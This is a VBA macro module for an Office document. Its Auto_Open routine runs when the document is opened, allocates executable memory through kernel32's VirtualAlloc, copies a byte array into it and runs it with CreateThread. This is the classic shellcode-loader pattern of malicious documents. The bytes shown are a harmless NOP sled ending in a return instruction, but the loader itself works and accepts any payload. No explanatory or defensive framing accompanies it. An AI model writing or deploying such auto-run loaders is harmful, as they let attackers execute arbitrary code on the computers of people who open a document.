Attribute VB_Name = "ThisDocument"

Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal d As LongPtr, ByRef s As Any, ByVal n As Long) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal s As Long, ByVal f As LongPtr, p As Long, ByVal c As Long, t As Long) As LongPtr
Sub Auto_Open()
    Dim code As Variant, place As LongPtr, i As Long, b As Byte
    code = Array(144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 144, 195)
    place = VirtualAlloc(0, UBound(code), &H1000, &H40)
    For i = LBound(code) To UBound(code)
        b = code(i): RtlMoveMemory place + i, b, 1
    Next i
    CreateThread 0, 0, place, 0, 0, 0
End Sub
